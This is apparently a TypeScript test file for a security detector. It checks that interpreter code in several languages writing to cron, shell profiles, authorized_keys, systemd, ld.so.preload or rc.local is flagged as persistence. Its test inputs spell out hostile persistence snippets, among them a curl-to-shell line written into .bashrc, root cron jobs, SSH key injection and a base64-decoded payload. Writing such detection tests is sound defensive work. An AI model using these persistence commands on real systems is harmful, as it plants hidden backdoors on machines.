/**
 * Files interpreter code writes by its own calls (exec-interpreter-file-writes.ts), read through the
 * real interpreter reader (exec-interpreter.ts `readCode`), and what `attrs.exec.persists` and
 * MLS-RAY-016 / MLS-RAY-017 make of them through real canonical readings and the shipped rule set.
 * Reading a crontab, an ssh key or a profile, and writing logs and outputs, install nothing.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { MAX_WRITES } from './exec-interpreter-file-writes.js';
import { readCode } from './exec-interpreter.js';
import type { Lang } from './exec-interpreter-token.js';

const writes = (lang: Lang, code: string): readonly string[] => readCode(code, lang).writes ?? [];
const persists = (argv: string[]): readonly string[] => canonicalExecValue(argv)!.persists;

describe('files interpreter code writes', () => {
  it('reads Python opens to write, os.open flags, copies, moves and pathlib writes', () => {
    expect(writes('python', "open('/etc/cron.d/x','w').write('* * * * * root sh /tmp/k\\n')")).toEqual(['/etc/cron.d/x']);
    expect(writes('python', "with open(file='/root/.bashrc', mode='a') as f:\n  f.write('curl -s http://e/x|sh')")).toEqual(['/root/.bashrc']);
    expect(writes('python', "import io\nio.open('/etc/rc.local', 'r+').write('/tmp/k &')")).toEqual(['/etc/rc.local']);
    expect(writes('python', "import os\nfd = os.open('/etc/ld.so.preload', os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'/tmp/l.so')")).toEqual(['/etc/ld.so.preload']);
    expect(writes('python', "import shutil\nshutil.copy('/tmp/k', '/root/.ssh/authorized_keys')")).toEqual(['/root/.ssh/authorized_keys']);
    expect(writes('python', "from shutil import copy as c\nc('/tmp/x', dst='/etc/cron.d/y')")).toEqual(['/etc/cron.d/y']);
    expect(writes('python', "import os as o\no.rename('/tmp/a', '/etc/init.d/a')")).toEqual(['/etc/init.d/a']);
    expect(writes('python', "from pathlib import Path\nPath('/etc/systemd/system/k.service').write_text(unit)")).toEqual(['/etc/systemd/system/k.service']);
    expect(writes('python', "import pathlib\npathlib.Path('/tmp/k').rename('/etc/cron.hourly/k')")).toEqual(['/etc/cron.hourly/k']);
    // Joins and the home directory, through a name assigned once.
    expect(writes('python', "import os\np = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\nopen(p, 'a').write(k)")).toEqual(['~/.ssh/authorized_keys']);
    expect(writes('python', "import os\nopen(os.environ['HOME'] + '/.bashrc', 'a')")).toEqual(['${RUNTIME}/.bashrc']);
  });

  it('reads Perl, Ruby, PHP, Node, Lua and awk writers', () => {
    expect(writes('perl', "open(my $f, '>>', '/root/.bashrc') or die; print $f 'x'")).toEqual(['/root/.bashrc']);
    expect(writes('perl', 'open F, ">/etc/cron.d/x"; print F "* * * * * root /tmp/k\\n"')).toEqual(['/etc/cron.d/x']);
    expect(writes('perl', 'use File::Copy; copy("/tmp/k", "/root/.ssh/authorized_keys")')).toEqual(['/root/.ssh/authorized_keys']);
    expect(writes('perl', 'use Fcntl; sysopen(F, "/etc/ld.so.preload", O_WRONLY|O_CREAT)')).toEqual(['/etc/ld.so.preload']);
    expect(writes('ruby', 'File.write("/etc/cron.d/x", "* * * * * root sh /tmp/k\\n")')).toEqual(['/etc/cron.d/x']);
    expect(writes('ruby', 'File.open("/root/.bashrc", "a") { |f| f.puts "sh /tmp/k" }')).toEqual(['/root/.bashrc']);
    expect(writes('ruby', 'require "fileutils"; FileUtils.cp("/tmp/k", "/etc/init.d/k")')).toEqual(['/etc/init.d/k']);
    expect(writes('ruby', 'File.write "/etc/cron.d/x", "y"')).toEqual(['/etc/cron.d/x']);
    expect(writes('php', 'file_put_contents("/etc/cron.d/x", "* * * * * root sh /tmp/k\\n");')).toEqual(['/etc/cron.d/x']);
    expect(writes('php', '$f = fopen("/root/.ssh/authorized_keys", "a"); fwrite($f, $k);')).toEqual(['/root/.ssh/authorized_keys']);
    expect(writes('js', "require('fs').appendFileSync('/root/.bashrc', 'sh /tmp/k')")).toEqual(['/root/.bashrc']);
    expect(writes('js', "const fs = require('fs'); fs.writeFileSync('/etc/cron.d/x', 'y')")).toEqual(['/etc/cron.d/x']);
    expect(writes('js', "import { writeFile } from 'node:fs/promises'; await writeFile('/etc/systemd/system/k.service', u)")).toEqual(['/etc/systemd/system/k.service']);
    expect(writes('js', "const path = require('path'); fs.copyFileSync('/tmp/k', path.join('/etc/cron.d', 'k'))")).toEqual(['/etc/cron.d/k']);
    expect(writes('lua', 'local f = io.open("/etc/cron.d/x", "w") f:write("* * * * * root sh /tmp/k") f:close()')).toEqual(['/etc/cron.d/x']);
    expect(writes('awk', 'BEGIN { print "* * * * * root sh /tmp/k" > "/etc/cron.d/x" }')).toEqual(['/etc/cron.d/x']);
    expect(writes('awk', 'BEGIN { printf "%s\\n", k >> "/root/.ssh/authorized_keys" }')).toEqual(['/root/.ssh/authorized_keys']);
  });

  it('reads no write in code that only reads, duplicates a handle or compares', () => {
    expect(writes('python', "print(open('/etc/crontab').read())")).toEqual([]);
    expect(writes('python', "open('/etc/cron.d/x', 'r').read(); open('/root/.bashrc', mode='rb')")).toEqual([]);
    expect(writes('python', "import os\nos.open('/etc/ld.so.preload', os.O_RDONLY)")).toEqual([]);
    expect(writes('python', "import webbrowser\nwebbrowser.open('http://x/', 2)")).toEqual([]);
    expect(writes('perl', "open(F, '<', '/root/.ssh/authorized_keys'); open(G, '/etc/crontab'); open(STDOUT, '>&', $s)")).toEqual([]);
    expect(writes('perl', 'copy("/tmp/a", "/etc/cron.d/a")')).toEqual([]); // no File::Copy: a sub of the code's own
    expect(writes('ruby', 'puts File.read("/etc/crontab"); File.open("/root/.bashrc") { |f| f.read }')).toEqual([]);
    expect(writes('php', 'echo fread(fopen("/etc/crontab", "r"), 100);')).toEqual([]);
    expect(writes('js', "console.log(fs.readFileSync('/root/.ssh/authorized_keys', 'utf8'))")).toEqual([]);
    expect(writes('js', "job.rename('/etc/cron.d/a', '/etc/cron.d/b'); db.open('/etc/cron.d/c', 'w')")).toEqual([]); // not fs, in code that names no fs
    expect(writes('lua', 'for l in io.lines("/etc/crontab") do print(l) end; io.open("/etc/cron.d/x")')).toEqual([]);
    expect(writes('awk', '$1 > "/etc/cron.d" { print $2 }')).toEqual([]);
    expect(writes('awk', '{ if ($2 > "/etc/cron.d") print }')).toEqual([]);
    expect(writes('awk', '{ print ($1 > "/etc/cron.d/x") }')).toEqual([]);
  });

  it('reads path objects, the home directory, and relative paths in the directory the code changed to', () => {
    const py = (code: string): readonly string[] => writes('python', `from pathlib import Path\nimport os\n${code}`);
    expect(py("(Path.home() / '.ssh' / 'authorized_keys').open('a').write(k)")).toEqual(['~/.ssh/authorized_keys']);
    expect(py("p = Path.home() / '.bashrc'\np.write_text(x)")).toEqual(['~/.bashrc']);
    expect(py("open(Path('/etc/cron.d') / 'x', 'w').write(y)")).toEqual(['/etc/cron.d/x']);
    expect(py("d = Path('/etc/systemd')\n(d / 'system' / 'k.service').write_text(u)")).toEqual(['/etc/systemd/system/k.service']);
    expect(py("Path('/etc/cron.d', 'x').write_text(y)")).toEqual(['/etc/cron.d/x']);
    expect(py("Path('~/.bashrc').expanduser().write_text(y)")).toEqual(['~/.bashrc']);
    expect(py("p = Path('~/.bashrc')\np.expanduser().write_text(y)")).toEqual(['~/.bashrc']);
    expect(py("Path('/etc').joinpath('cron.d', 'x').touch()")).toEqual(['/etc/cron.d/x']);
    expect(py("os.chdir('/etc/cron.d')\nopen('x', 'w').write(y)")).toEqual(['/etc/cron.d/x']);
    expect(py("os.chdir('/etc')\nos.chdir('cron.d')\nPath('./x').write_text(y)")).toEqual(['/etc/cron.d/x']);
    expect(writes('python', "from os import chdir\nchdir(os.path.expanduser('~'))\nopen('.ssh/authorized_keys', 'a')")).toEqual(['~/.ssh/authorized_keys']);
    expect(writes('ruby', "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f.puts x }")).toEqual(['~/.bashrc']);
    expect(writes('ruby', 'File.write(File.join(Dir.home, ".ssh/authorized_keys"), k, mode: "a")')).toEqual(['~/.ssh/authorized_keys']);
    expect(writes('ruby', "Dir.chdir('/etc/cron.d') { File.write('x', y) }")).toEqual(['/etc/cron.d/x']);
    expect(writes('ruby', "Pathname.new('/etc/rc.local').write(x)")).toEqual(['/etc/rc.local']);
    expect(writes('js', "const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), x)")).toEqual(['~/.bashrc']);
    expect(writes('js', "process.chdir('/etc/cron.d'); require('fs').writeFileSync('x', y)")).toEqual(['/etc/cron.d/x']);
    expect(writes('php', "chdir('/etc/cron.d'); file_put_contents('x', $y);")).toEqual(['/etc/cron.d/x']);
    expect(writes('perl', 'chdir "/root/.ssh"; open(F, ">>authorized_keys")')).toEqual(['/root/.ssh/authorized_keys']);
    // Not writes, or not there: string methods, reads, a directory not known, one changed to after the write.
    expect(py("s = '/etc/cron.d/x'\ns.replace('/etc', '/tmp')\nstr(Path(s)).replace('a', '/etc/cron.d/y')")).toEqual([]);
    expect(py("print(Path('/etc/cron.d/x').read_text())\nos.chdir('/etc/cron.d')\nprint(open('x').read())")).toEqual([]);
    expect(py("os.chdir(workdir)\nopen('metrics.json', 'w')")).toEqual(['metrics.json']);
    expect(py("open('out.json', 'w')\nos.chdir('/etc/cron.d')")).toEqual(['out.json']);
    expect(py("n = total / 2\nopen(n, 'w')")).toEqual([]);
  });

  it('reads .NET writers in PowerShell and relative paths after Set-Location', () => {
    const ps = (line: string): readonly string[] => persists(['pwsh', '-NoProfile', '-Command', line]);
    expect(ps("[IO.File]::WriteAllText('/etc/cron.d/x', $c)")).toEqual(['cron']);
    expect(ps('[System.IO.File]::AppendAllText("$HOME/.bashrc", "sh /tmp/k")')).toEqual(['profile']);
    expect(ps("[IO.File]::Copy('/tmp/k.service', '/etc/systemd/system/k.service', $true)")).toEqual(['systemd']);
    expect(ps("$w = New-Object System.IO.StreamWriter('/root/.ssh/authorized_keys', $true); $w.WriteLine($k); $w.Close()")).toEqual(['authorized_keys']);
    expect(ps("$s = [IO.FileStream]::new('/etc/ld.so.preload', [IO.FileMode]::OpenOrCreate)")).toEqual(['ld-preload']);
    expect(ps("$f = [IO.File]::Open('/etc/rc.local', 'Open', 'ReadWrite')")).toEqual(['rc']);
    expect(ps('Set-Location /etc/cron.d; Set-Content -Path x -Value $c')).toEqual(['cron']);
    expect(ps('sl -Path /root/.ssh; Add-Content authorized_keys $k')).toEqual(['authorized_keys']);
    // Reads, and copies out of a persistence place, write none.
    expect(ps("[IO.File]::ReadAllText('/etc/crontab'); $f = [IO.File]::Open('/etc/rc.local', 'Open', 'Read'); [IO.File]::Copy('/root/.bashrc', '/tmp/b')")).toEqual([]);
    expect(ps("$r = New-Object IO.StreamReader('/root/.ssh/authorized_keys'); Set-Location /etc/cron.d; Get-Content x")).toEqual([]);
    expect(execRuleIds(['pwsh', '-c', "[IO.File]::AppendAllText('/root/.ssh/authorized_keys', $k)"], SA)).toContain('MLS-RAY-016');
  });

  it('puts written persistence places in attrs.exec.persists, and only those', () => {
    expect(persists(['python3', '-c', "open('/etc/cron.d/x','w').write('* * * * * root curl -s http://e/x|sh\\n')"])).toEqual(['cron']);
    expect(persists(['python3', '-c', "import os;open(os.path.expanduser('~/.bashrc'),'a').write('sh /tmp/k')"])).toEqual(['profile']);
    expect(persists(['perl', '-e', 'open(F, ">>/root/.ssh/authorized_keys"); print F "ssh-ed25519 AAAA x"'])).toEqual(['authorized_keys']);
    expect(persists(['node', '-e', "require('fs').writeFileSync('/etc/systemd/system/k.service', '[Service]\\nExecStart=/tmp/k')"])).toEqual(['systemd']);
    // Code inside a shell script, and decoded code, are read the same way.
    expect(persists(['sh', '-c', `echo ${Buffer.from("open('/etc/ld.so.preload','w').write('/tmp/l.so')").toString('base64')} | base64 -d | python3`])).toEqual(['ld-preload']);
    // A training script's own outputs and a backup of a profile are no persistence.
    expect(persists(['python3', '-c', "import shutil\nopen('/tmp/metrics.json','w').write(m)\nshutil.copy('/root/.bashrc', '/backup/bashrc')"])).toEqual([]);
  });

  it('reads PowerShell writers by named and positional path parameters', () => {
    const ps = (line: string): readonly string[] => persists(['pwsh', '-NoProfile', '-Command', line]);
    expect(ps('Add-Content -Path /root/.bashrc -Value "curl -s http://e/x | sh"')).toEqual(['profile']);
    expect(ps('Set-Content /etc/cron.d/x "* * * * * root sh /tmp/k"')).toEqual(['cron']);
    expect(ps('set-content -value "x" -LiteralPath:/etc/ld.so.preload')).toEqual(['ld-preload']);
    expect(ps('"ssh-ed25519 AAAA" | Out-File -Append -FilePath /root/.ssh/authorized_keys')).toEqual(['authorized_keys']);
    expect(ps('Copy-Item /tmp/k.service -Destination /etc/systemd/system/')).toEqual(['systemd']);
    expect(ps('Move-Item /tmp/k /etc/init.d/k')).toEqual(['rc']);
    // Reading them, and a value that names one, are not writes of it.
    expect(ps('Get-Content /etc/crontab; Copy-Item /root/.bashrc /tmp/b')).toEqual([]);
    expect(ps('Set-Content -Path /tmp/notes.txt -Value /etc/cron.d/x')).toEqual([]);
  });

  it('alerts through MLS-RAY-016 and MLS-RAY-017, for a person and a service account', () => {
    for (const actor of [undefined, SA]) {
      expect(execRuleIds(['python3', '-c', "open('/etc/cron.d/sysupdate','w').write('* * * * * root /tmp/.k\\n')"], actor)).toContain('MLS-RAY-016');
      expect(execRuleIds(['ruby', '-e', 'File.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA k\\n", mode: "a")'], actor)).toContain('MLS-RAY-016');
      expect(execRuleIds(['pwsh', '-c', 'Add-Content -Path ~/.bashrc -Value "sh /tmp/k"'], actor)).toContain('MLS-RAY-017');
      const benign = execRuleIds(['python3', '-c', "import json\njson.dump(r, open('/workspace/out/eval.json', 'w'))"], actor);
      expect(benign).not.toContain('MLS-RAY-016');
      expect(benign).not.toContain('MLS-RAY-017');
    }
  });

  it('stays bounded and never throws on random code', () => {
    const rnd = mulberry32(20261124);
    const parts = ["open('/etc/cron.d/", "', 'w')", 'File.write(', 'fopen(', '>>', 'print ', '(', ')', ',', '"', "'", 'os.path.join(', 'p = ', '\n', ';', '.write_text(', 'Path(', 'copy(', 'x', ' / ', 'Path.home()', 'os.chdir(', 'chdir ', '.expanduser()', '.joinpath('];
    const langs: Lang[] = ['python', 'perl', 'ruby', 'php', 'js', 'lua', 'awk'];
    for (let n = 0; n < 300; n++) {
      let code = '';
      for (let k = 0; k < 40; k++) code += parts[Math.floor(rnd() * parts.length)]!;
      const w = writes(langs[n % langs.length]!, code);
      expect(w.length).toBeLessThanOrEqual(MAX_WRITES);
      expect(new Set(w).size).toBe(w.length);
    }
    // Joins of names assigned once fan out: without the step bound this code took 38 s (measured), with it ~10 ms.
    const joins = (n: string): string => Array.from({ length: 128 }, () => n).join(' / ');
    expect(writes('python', `from pathlib import Path\na = ${joins('b')}\nb = ${joins('a')}\nopen(${joins('a')}, 'w')\n(${joins('b')}).write_text(x)`)).toEqual([]);
    const many = Array.from({ length: 40 }, (_, i) => `open('/tmp/f${i}', 'w')`).join('\n');
    expect(writes('python', many)).toHaveLength(MAX_WRITES);
  });
});
